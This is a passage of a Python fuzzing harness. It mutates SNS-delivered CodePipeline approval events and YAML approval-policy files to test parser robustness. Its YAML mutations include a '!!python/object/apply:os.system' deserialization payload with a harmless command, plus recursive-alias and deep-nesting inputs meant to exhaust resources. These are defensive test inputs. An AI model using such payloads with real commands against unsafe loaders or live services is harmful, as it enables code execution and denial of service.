        return chooser.pick(("APPROVAL NEEDED", "<xml/>", "\ud800", "{'a': 1}"))
    if how == "JSON not an object":
        return json.dumps(chooser.pick(([doc], "approval", 1, None)))
    if how == "deeply nested JSON":
        depth = chooser.pick((100, 5_000, 100_000))
        return '{"approval": ' + "[" * depth + "]" * depth + "}"
    if how == "larger than SNS allows":
        return text[:-1] + ', "pad": "' + "x" * 262_144 + '"}'
    if how == "not text":
        return copy.deepcopy(chooser.pick((doc, None, 1, [text])))
    return ""


_TIMESTAMPS: tuple[Any, ...] = (
    "9999-12-31T23:59:59.999Z",
    "0001-01-01T00:00:00.000Z",
    "1970-01-01T00:00:00Z",
    "2026-12-01T17:00:00.000+14:00",
    "yesterday",
    "",
    None,
    1796144700,
)


def _mutate_record(chooser: Chooser, record: dict[str, Any], labels: list[str]) -> Any:
    how = chooser.pick(
        ("message id", "Sns missing", "Sns not an object", "Message missing", "record not")
    )
    sns = record["Sns"]
    if how == "message id":
        value = copy.deepcopy(chooser.pick((None, 7, {"id": 1}, "x" * 10_000, "\ud800")))
        sns["MessageId"] = value
        labels.append(f"Sns.MessageId = {_brief(value)}")
    elif how == "Sns missing":
        del record["Sns"]
        labels.append("Sns removed")
    elif how == "Sns not an object":
        record["Sns"] = chooser.pick(("notification", None, [], 1))
        labels.append("Sns not an object")
    elif how == "Message missing":
        sns.pop("Message", None)
        labels.append("Sns.Message removed")
    else:
        labels.append("record not an object")
        return chooser.pick((None, "record", [], 1))
    return record


def start_case(chooser: Chooser, world: StartWorld) -> Case:
    """An SNS → Lambda event carrying CodePipeline approval notifications, mutated."""
    case = Case(START, None)
    template = world.envelope["Records"][0]
    count = 1 if chooser.chance(0.85) else chooser.integer(2, 3)
    records: list[Any] = []
    for index in range(count):
        labels: list[str] = []
        doc = approval_message(chooser, world)
        if chooser.chance(0.7):
            for _ in range(chooser.integer(1, 3)):
                labels.append(_mutate_message(chooser, world, doc))
        record = copy.deepcopy(template)
        record["Sns"]["Message"] = _message_text(chooser, doc, labels)
        record["Sns"]["MessageId"] = f"fuzz-{index}-{chooser.integer(0, 2**31)}"
        if chooser.chance(0.06):
            value = chooser.pick(_TIMESTAMPS)
            record["Sns"]["Timestamp"] = value
            labels.append(f"Sns.Timestamp = {value!r}")
        if chooser.chance(0.08):
            record = _mutate_record(chooser, record, labels)
        records.append(record)
        prefix = f"record {index}: " if count > 1 else ""
        case.labels.extend(prefix + label for label in labels)
    event: Any = {"Records": records}
    if chooser.chance(0.04):
        how = chooser.pick(("no Records", "Records empty", "Records not a list", "not an object"))
        case.labels.append(f"event: {how}")
        if how == "no Records":
            event = {"records": records}
        elif how == "Records empty":
            event = {"Records": []}
        elif how == "Records not a list":
            event = {"Records": records[0]}
        else:
            event = chooser.pick((None, "event", [], 1))
    case.event = event
    return case


# --------------------------------------------------------------------------- policies


@dataclass
class PolicyCase:
    """A policy document as an object (`Policy.from_document`), YAML text (`load_policy`)
    or file bytes (`load_policy_file`)."""

    form: str  # "document" | "yaml" | "file"
    document: Any = None
    text: str | None = None
    raw: bytes | None = None
    labels: list[str] = field(default_factory=list)

    def describe(self) -> str:
        mutations = "; ".join(self.labels) if self.labels else "unmutated"
        return f"{self.form}: {mutations}"


#: The longest text a policy mutation writes (policy files are small; PyYAML is slow).
POLICY_MAX_TEXT = 3_100
_DURATION_KEYS = ("reminder_every", "deadline", "deadline_margin")
_DURATIONS: tuple[Any, ...] = (
    "0s",
    "-1h",
    "1.5h",
    "4H",
    " 4h",
    "4h ",
    "1w",
    "4 h",
    "P1D",
    "\u0664h",
    "9" * 30 + "d",
    "9" * 5_000 + "s",
    "106751991167300d",
    "366d",
    0,
    -5,
    10**30,
    1.5,
    True,
    "",
)
_IDS: tuple[Any, ...] = (
    "#deploys",
    "@alice",
    "alice@example.com",
    "c0deploys",
    "C",
    "U0",
    "S0RELEASE",
    "U0ALICE",
    "C0DEPLOYS",
    "W0ALICE",
    "G0PRIVATE",
    "C0DEPLOYS ",
    "<#C0DEPLOYS>",
)
_KEYS: tuple[Any, ...] = (
    "approver",
    "deadlines",
    "pipeline",
    "Channel",
    "match",
    "rule",
    "users",
    1,
    None,
    True,
    2.5,
    ("a", "b"),
)


def policy_mutation(chooser: Chooser, doc: Any) -> str:
    """One mutation of a parsed policy document; says what it did."""
    paths = json_paths(doc)
    what = chooser.pick(
        ("duration", "id", "integer", "key", "selector", "people", "anywhere", "anywhere", "root")
    )
    if what == "root" or not paths:
        value: Any = copy.deepcopy(chooser.pick((None, [], "", 0, "defaults: {}", [doc], {})))
        if isinstance(doc, dict):
            doc.clear()
            if isinstance(value, dict):
                doc.update(value)
            else:
                doc["defaults"] = value
        return f"document replaced around {_brief(value)}"
    if what == "duration":
        candidates = [p for p in paths if p[-1] in _DURATION_KEYS]
        value = chooser.pick(_DURATIONS)
        path = chooser.pick(candidates) if candidates else ("defaults", "deadline")
        set_at(doc, path, value)
        return f"{show_path(path)} = {_brief(value)}"
    if what == "id":
        candidates = [p for p in paths if isinstance(get_at(doc, p), str)]
        if candidates:
            path = chooser.pick(candidates)
            value = chooser.pick(_IDS)
            set_at(doc, path, value)
            return f"{show_path(path)} = {value!r}"
    if what == "integer":
        key: Any = chooser.pick(("required_approvals", "escalate_after_reminders"))
        value = chooser.pick((0, -1, 1, 2, 10**6, 10**5_000, True, "2", 1.0, None))
        holders = [p for p in paths if isinstance(get_at(doc, p), dict)]
        holder: JsonPath = chooser.pick(holders) if holders else ()
        target = get_at(doc, holder) if holder else doc
        if isinstance(target, dict):
            target[key] = value
        return f"{show_path((*holder, key))} = {_brief(value)}"
    if what == "key":
        holders = [p for p in paths if isinstance(get_at(doc, p), dict)]
        key = chooser.pick(_KEYS)
        value = copy.deepcopy(chooser.pick((None, "C0DEPLOYS", [], {}, 1)))
        target = get_at(doc, chooser.pick(holders)) if holders else doc
        if isinstance(target, dict):
            target[key] = value
        return f"key {key!r} added"
    if what == "selector":
        rules = doc.get("pipelines") if isinstance(doc, dict) else None
        if isinstance(rules, list) and rules and isinstance(rules[0], dict):
            rule = chooser.pick(rules)
            if isinstance(rule, dict):
                key = chooser.pick(("match", "stage", "action"))
                value = chooser.pick(("", "*", "[", "prod-[!a]*", None, 1, ["*"], "**"))
                if chooser.chance(0.2):
                    rule.pop(key, None)
                    return f"rule selector {key} removed"
                rule[key] = value
                return f"rule selector {key} = {value!r}"
    if what == "people" and isinstance(doc, dict):
        people = doc.setdefault("people", {})
        if isinstance(people, dict):
            key = chooser.pick(("", " ", "alice@example.com", 1, None, "arn:aws:iam::1:user/x"))
            people[key] = chooser.pick(("U0ALICE", "alice", None, ["U0ALICE"], "W0BOB"))
            return f"people[{key!r}] set"
    # PyYAML reads about a megabyte a second: policies are small, so are these values.
    return mutate_anywhere(doc, chooser, max_size=POLICY_MAX_TEXT)


_TEXT_MUTATIONS = (
    "truncated",
    "tab indent",
    "duplicate line",
    "python tag",
    "recursive alias",
    "deep nesting",
    "huge integer",
    "directive",
    "two documents",
    "control character",
    "lone surrogate",
    "tags",
    "merge key",
    "CRLF",
    "flow style garbage",
)


def policy_text_mutation(chooser: Chooser, text: str) -> tuple[str, str]:
    how = chooser.pick(_TEXT_MUTATIONS)
    lines = text.splitlines(keepends=True) or ["\n"]
    at = chooser.integer(0, len(lines) - 1)
    if how == "truncated":
        return text[: chooser.integer(0, len(text))], how
    if how == "tab indent":
        lines[at] = "\t" + lines[at]
    elif how == "duplicate line":
        lines.insert(at, lines[at])
    elif how == "python tag":
        lines.insert(at, "evil: !!python/object/apply:os.system ['true']\n")
    elif how == "recursive alias":
        return "defaults: &d {approvers: *d}\n" + text if chooser.chance(0.5) else (
            "pipelines: &p [*p]\n" + text
        ), how
    elif how == "deep nesting":
        # Past Python's default recursion limit, yet short: PyYAML scans nested flow
        # collections in quadratic time (and jsonata raises the limit to 10,000).
        depth = chooser.pick((50, 600))
        return f"defaults: {{approvers: {{users: {'[' * depth}{']' * depth}}}}}\n", how
    elif how == "huge integer":
        digits = "9" * chooser.pick((20, 5_000))
        return text + f"\nextra_integer: {digits}\n", how
    elif how == "directive":
        return "%YAML 9.9\n---\n" + text, how
    elif how == "two documents":
        return text + "\n---\n" + text, how
    elif how == "control character":
        lines[at] = lines[at].rstrip("\n") + "\x07\n"
    elif how == "lone surrogate":
        lines[at] = lines[at].rstrip("\n") + " # \ud800\n"
    elif how == "tags":
        tag = chooser.pick(
            ("!!binary aGVsbG8=", "!!timestamp 2001-12-14", "!!set {a}", "!!float .inf")
        )
        lines.insert(at, f"odd: {tag}\n")
    elif how == "merge key":
        lines.insert(0, "base: &base [1, 2]\n")
        lines.append("defaults2:\n  <<: *base\n")
    elif how == "CRLF":
        return text.replace("\n", "\r\n"), how
    else:
        lines.insert(at, chooser.pick(("{[}]\n", "- - -\n", ": :\n", "? [a, b]\n: c\n", "'\n")))
    return "".join(lines), how


def policy_case(chooser: Chooser, corpus: Sequence[Any]) -> PolicyCase:
    """A policy document from the shipped ones, mutated, as object, YAML text or file."""
    import yaml

    doc = copy.deepcopy(chooser.pick(corpus))
    labels = []
    if chooser.chance(0.8):
        for _ in range(chooser.integer(1, 4)):
            labels.append(policy_mutation(chooser, doc))
    form = chooser.pick(("document", "document", "yaml", "yaml", "yaml", "file"))
    if form == "document":
        return PolicyCase("document", document=doc, labels=labels)
    dumper = getattr(yaml, "CSafeDumper", yaml.SafeDumper)
    try:
        text = yaml.dump(doc, Dumper=dumper, allow_unicode=chooser.chance(0.5))
    except (yaml.YAMLError, RecursionError, ValueError, TypeError):
        text = "defaults: {}\n"
    if chooser.chance(0.3):
        text, how = policy_text_mutation(chooser, text)
        labels.append(f"text: {how}")
    if form == "yaml":
        return PolicyCase("yaml", document=doc, text=text, labels=labels)
    raw = text.encode("utf-8", "surrogatepass")
    if chooser.chance(0.3):
        how = chooser.pick(("invalid UTF-8", "UTF-16", "Latin-1", "BOM", "empty"))
        labels.append(f"file: {how}")
        if how == "invalid UTF-8":
            raw = raw + b"\n# \xff\xfe\n"
        elif how == "UTF-16":
            raw = text.encode("utf-16", "surrogatepass")
        elif how == "Latin-1":
            raw = raw.replace(b"C0DEPLOYS", b"C0D\xc9PLOYS") + b"\n# caf\xe9\n"
        elif how == "BOM":
            raw = b"\xef\xbb\xbf" + raw
        else:
            raw = b""
    return PolicyCase("file", document=doc, raw=raw, labels=labels)
